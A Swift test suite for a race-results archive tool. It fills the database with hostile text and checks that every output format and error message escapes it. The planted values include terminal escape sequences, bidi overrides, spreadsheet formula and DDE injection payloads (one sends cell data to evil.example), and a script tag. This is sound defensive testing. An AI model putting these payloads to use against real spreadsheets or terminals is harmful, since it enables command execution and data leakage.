import BarkleyArchive
import Foundation
import Testing

/// Every output path of `barkley` with an archive full of hostile text: terminal escapes (CSI,
/// OSC, BEL, C1), bidi overrides and isolates, zero-width characters, spreadsheet formulas,
/// Markdown links, images, code and HTML, pipes and newlines.
///
/// The import door refuses such text, so the archive is made as an older version or a
/// hand-written SQL statement could make it: a clean edition imported, then its text replaced
/// by SQL with bound values.
@Suite struct HostileOutputTests {
    /// The stored text, by the placeholder it replaces.
    static let names: [(placeholder: String, hostile: String)] = [
        ("Placeholder One", "Esc \u{1B}[31mRed\u{1B}[0m \u{1B}]0;OWNED\u{07} \u{9B}2J Runner"),
        ("Placeholder Two", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("Placeholder Three", "RTL \u{202E}evil\u{202C} \u{2066}iso\u{2069} zero\u{200B}width\u{FEFF}\u{200F} Name"),
        ("Placeholder Four", "[link](http://evil.example) ![img](http://evil.example/x.png) `code` <b>bold</b> | pipe &#x202E; *em* www.evil.example a@evil.example"),
        ("Placeholder Five", "+cmd|' /C calc'!A0"),
        ("Placeholder Six", "-2+3+cmd\tTab\nNew line\rCR\u{7F}DEL\u{85}NEL\u{2028}LS"),
    ]
    static let note = "@SUM(1+1)*cmd \u{1B}[2J\n# heading\n- list\n    code block\n```fence\n<script>alert(1)</script>\n1. item\n===\nline \u{202E}evil"
    static let citation = "=cmd|' /C calc'!A0 \u{1B}]8;;http://evil.example\u{07}link\u{1B}]8;;\u{07}"

    static let edition = """
        year: 2024
        format:
          loops: 5
          time_limit: "60:00:00"
          fun_run_loops: 3
          fun_run_time_limit: "40:00:00"
        starters: 6
        entrant_list: complete
        sources:
          s: https://example.org/results
        cite: [s]
        notes: Placeholder notes
        entrants:
        - name: Placeholder One
          country: "USA"
          sex: M
          loops_completed: 5
          times:
          - {loop: 5, elapsed: "58:00:00", note: "Placeholder time note"}
          cite: [s]
        - name: Placeholder Two
          country: "GBR"
          sex: F
          loops_completed: 5
          times:
          - {loop: 5, elapsed: "59:00:00"}
          cite: [s]
        - name: Placeholder Three
          country: "CAN"
          loops_completed: 3
          times:
          - {loop: 3, elapsed: "39:00:00"}
        - name: Placeholder Four
          listed_as: Placeholder Alias
          loops_completed: 1
        - name: Placeholder Five
          loops_completed: 1
          note: Placeholder entrant note
        - name: Placeholder Six
          loops_completed: 0

        """

    /// An archive file holding the hostile text, in a directory removed with it.
    final class HostileArchive {
        let directory: TemporaryDirectory
        let path: String

        init() throws {
            directory = try TemporaryDirectory()
            path = directory.path("hostile.sqlite")
            let file = directory.url.appendingPathComponent("2024.yaml")
            try HostileOutputTests.edition.write(to: file, atomically: true, encoding: .utf8)
            let archive = try Archive(path: path)
            try archive.importFiles([file])
            let connection = archive.connection
            for (placeholder, hostile) in HostileOutputTests.names {
                try connection.run("UPDATE runner SET name = ?, search_key = ? WHERE name = ?", [hostile, NameKey.fold(hostile), placeholder])
                try connection.run("UPDATE entry SET name = ? WHERE name = ?", [hostile, placeholder])
            }
            try connection.run("UPDATE entry SET listed_as = ?, listed_as_key = ? WHERE listed_as IS NOT NULL", [HostileOutputTests.citation, NameKey.fold(HostileOutputTests.citation)])
            try connection.run("UPDATE entry SET note = ? WHERE note IS NOT NULL", [HostileOutputTests.note])
            try connection.run("UPDATE loop_time SET note = ? WHERE note IS NOT NULL", [HostileOutputTests.note])
            try connection.run("UPDATE edition SET notes = ?", [HostileOutputTests.note])
            try connection.run("UPDATE source SET citation = ?", [HostileOutputTests.citation])
        }

        func run(_ arguments: [String], sourceLocation: SourceLocation = #_sourceLocation) throws -> BarkleyBinary.Result {
            try BarkleyBinary.run(arguments + ["--db", path], sourceLocation: sourceLocation)
        }
    }

    static let runner = names[0].hostile

    /// Every reading command that prints archive text.
    static let readingCommands: [[String]] = [
        ["overview"], ["edition", "2024"], ["finishers"], ["finishers", "--year", "2024"], ["fun-runs"],
        ["fun-runs", "--year", "2024"], ["runner", runner], ["search", "runner"], ["records"], ["firsts"],
        ["most", "starts"], ["most", "finishes"], ["most", "fun-runs"], ["attrition"], ["attrition", "2024"],
        ["countries"], ["sources", "2024"], ["sources", "2024", "--runner", runner],
        ["sql", "SELECT name, search_key FROM runner ORDER BY id"],
        ["sql", "SELECT name AS \"=\u{1B}[31mcmd\u{202E}\", note AS \"[x](http://evil.example) | y\", listed_as FROM entry ORDER BY id"],
    ]

    @Test("no raw control, bidi or zero-width character reaches stdout in any format; CSV formulas are neutralized; Markdown is inert")
    func readingCommandsInEveryFormat() throws {
        let archive = try HostileArchive()
        for command in Self.readingCommands {
            for format in ["table", "csv", "json", "markdown"] {
                let result = try archive.run(command + ["--format", format])
                let label = "\(command.map(\.debugDescription).joined(separator: " ")) --format \(format)"
                #expect(result.status == 0, "\(label): \(result)")
                Self.expectNoRawControls(result, label)
                switch format {
                case "csv": Self.expectNeutralizedCSV(result.stdout, label)
                case "markdown": Self.expectInertMarkdown(result.stdout, label)
                case "json": #expect((try? JSONSerialization.jsonObject(with: Data(result.stdout.utf8))) != nil, "\(label): valid JSON")
                default: break
                }
            }
        }
    }

    @Test("the hostile text is shown escaped, not lost: a visible escape in tables, the exact value in JSON")
    func textIsEscapedNotLost() throws {
        let archive = try HostileArchive()
        // At 80 columns the long name wraps in its cell; with no width it is on one line.
        let table = try BarkleyBinary.run(["finishers", "--year", "2024", "--db", archive.path], environment: ["COLUMNS": ""])
        #expect(table.stdout.contains("Esc \\u{1B}[31mRed\\u{1B}[0m \\u{1B}]0;OWNED\\u{7} \\u{9B}2J Runner"), "\(table)")
        let csv = try archive.run(["finishers", "--year", "2024", "--format", "csv"])
        #expect(csv.stdout.contains("'=HYPERLINK("), "\(csv)")
        let json = try archive.run(["sql", "SELECT name FROM runner ORDER BY id", "--format", "json"])
        let rows = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: String]])
        #expect(rows.compactMap { $0["name"] } == Self.names.map(\.hostile), "JSON gives back every value exactly")
    }

    @Test("errors, suggestions and messages that quote names, arguments or SQL escape them too")
    func errorsAndMessages() throws {
        let archive = try HostileArchive()
        let hostileArgument = "Nobody \u{1B}]0;OWNED\u{07}\u{1B}[31m\u{202E}"
        let runs: [(String, BarkleyBinary.Result)] = [
            ("runner miss", try archive.run(["runner", hostileArgument])),
            ("runner suggestion", try archive.run(["runner", Self.names[2].hostile.replacingOccurrences(of: "Name", with: "Nane")])),
            ("runner part of a name", try archive.run(["runner", "runner"])),
            ("search miss", try archive.run(["search", hostileArgument])),
            ("search miss markdown", try archive.run(["search", hostileArgument, "--format", "markdown"])),
            ("no edition", try archive.run(["edition", "1999"])),
            ("no entry", try archive.run(["sources", "2024", "--runner", hostileArgument])),
            ("sql error", try archive.run(["sql", "SELECT \"\u{1B}[31m\" FROM \u{1B}]0;x\u{07}"])),
            ("sql refused", try archive.run(["sql", "DELETE FROM runner WHERE name = '\u{1B}[31m'"])),
            ("bad option value", try archive.run(["finishers", "--format", hostileArgument])),
            ("unknown command", try archive.run([hostileArgument])),
            ("check", try archive.run(["check"])),
            ("export", try archive.run(["export", archive.directory.path("out \u{1B}[31m\u{202E}")])),
            ("backup", try archive.run(["backup", archive.directory.path("copy \u{1B}[31m.sqlite")])),
        ]
        for (label, result) in runs {
            Self.expectNoRawControls(result, label)
        }
        #expect(runs[0].1.stderr.contains("Nobody \\u{1B}]0;OWNED\\u{7}"), "the argument is shown, escaped: \(runs[0].1)")
        #expect(runs[1].1.status == 1 && runs[1].1.stderr.contains("Did you mean"), "\(runs[1].1)")
    }

    @Test("import problems that quote a file's content, and import reports, escape it")
    func importMessages() throws {
        let directory = try TemporaryDirectory()
        let bad = directory.url.appendingPathComponent("bad \u{1B}[31m.yaml")
        try """
            year: 2024
            entrant_list: partial
            starters: "\u{1B}]0;OWNED\u{07}many"
            entrants:
            - name: "Evil\u{1B}]0;OWNED\u{07}\u{1B}[1;31m Runner\u{202E}"
              country: "\u{1B}[31mXX"

            """.write(to: bad, atomically: true, encoding: .utf8)
        let refused = try BarkleyBinary.run(["import", "--db", directory.path("a.sqlite"), bad.path])
        #expect(refused.status == 65, "\(refused)")
        Self.expectNoRawControls(refused, "import problems")

        let odd = directory.url.appendingPathComponent("odd \u{1B}[31m\u{202E}.yaml")
        try "year: 2024\nentrant_list: unknown\nnotes: \"a note \u{1B}[31m\"\n".write(to: odd, atomically: true, encoding: .utf8)
        let report = try BarkleyBinary.run(["import", "--db", directory.path("b.sqlite"), odd.path])
        Self.expectNoRawControls(report, "import report naming a file")
    }

    // MARK: What "safe" means, independent of the sanitizer

    /// C0 controls other than the newline, DEL, C1 controls, bidi controls, zero-width and other
    /// invisible format characters, line and paragraph separators.
    static func isForbidden(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.value {
        case 0x0A: false
        case 0x00...0x1F, 0x7F...0x9F: true
        case 0x061C, 0x200B...0x200F, 0x2028...0x202E, 0x2060...0x2064, 0x2066...0x2069, 0xFEFF: true
        default: false
        }
    }

    static func expectNoRawControls(_ result: BarkleyBinary.Result, _ label: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for (stream, text) in [("stdout", result.stdout), ("stderr", result.stderr)] {
            let raw = text.unicodeScalars.filter(isForbidden).map { String($0.value, radix: 16, uppercase: true) }
            #expect(raw.isEmpty, "\(label): raw U+\(raw.joined(separator: ", U+")) on \(stream)", sourceLocation: sourceLocation)
        }
    }

    /// No field starts with a character a spreadsheet runs, unless it is a number in full.
    static func expectNeutralizedCSV(_ csv: String, _ label: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for field in CSVFields.parse(csv) {
            guard let first = field.first, "=+-@\t\r".contains(first) else { continue }
            #expect(field.wholeMatch(of: /[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?/) != nil,
                    "\(label): the field \(field.debugDescription) would run as a formula", sourceLocation: sourceLocation)
        }
    }

    /// Nothing renders as a link, an image, code or HTML, and every table row has its columns.
    static func expectInertMarkdown(_ markdown: String, _ label: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for active in ["](", "![", "`code`", "<b>", "<script", "&#x202E;", "http://evil", "www.evil", "a@evil", "*em*"] {
            // An occurrence preceded by a backslash is escaped: Markdown shows it as text.
            let live = markdown.ranges(of: active).filter { range in
                range.lowerBound == markdown.startIndex || markdown[markdown.index(before: range.lowerBound)] != "\\"
            }
            #expect(live.isEmpty, "\(label): \(active) is live Markdown", sourceLocation: sourceLocation)
        }
        var columns: Int?
        for line in markdown.split(separator: "\n") {
            guard line.hasPrefix("|") else {
                columns = nil
                continue
            }
            // Cell boundaries: pipes with no backslash escaping them.
            var count = 0, escaped = false
            for character in line {
                if character == "|" && !escaped { count += 1 }
                escaped = character == "\\" && !escaped
            }
            if let columns {
                #expect(count == columns, "\(label): a row with \(count - 1) cells breaks the table: \(line)", sourceLocation: sourceLocation)
            } else {
                columns = count
            }
        }
        for line in markdown.split(separator: "\n") where line.hasPrefix("#") || line.hasPrefix("- ") {
            #expect(line.hasPrefix("# ") || line.hasPrefix("## ") || line.hasPrefix("- **"), "\(label): text made a block: \(line)", sourceLocation: sourceLocation)
        }
    }
}

/// The fields of an RFC 4180 CSV text (quoted fields may hold commas, quotes and newlines).
enum CSVFields {
    static func parse(_ text: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, afterQuote = false
        var iterator = text.makeIterator()
        while let character = iterator.next() {
            if quoted {
                if character == "\"" { quoted = false; afterQuote = true } else { field.append(character) }
                continue
            }
            switch character {
            case "\"":
                if afterQuote { field.append("\"") }
                quoted = true
                afterQuote = false
            case ",", "\n":
                fields.append(field)
                field = ""
                afterQuote = false
            default:
                field.append(character)
                afterQuote = false
            }
        }
        if !field.isEmpty { fields.append(field) }
        return fields
    }
}
